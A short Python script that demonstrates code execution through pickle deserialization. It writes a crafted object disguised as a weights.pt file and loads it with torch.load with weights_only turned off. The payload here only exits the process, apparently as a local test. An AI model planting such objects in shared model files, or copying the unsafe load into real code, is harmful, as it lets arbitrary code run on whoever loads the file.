"""Leave a pickle that runs a command, and load it. It runs in here and nowhere else."""

import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


with open("weights.pt", "wb") as file:
    pickle.dump(Bomb(), file)
torch.load("weights.pt", weights_only=False)
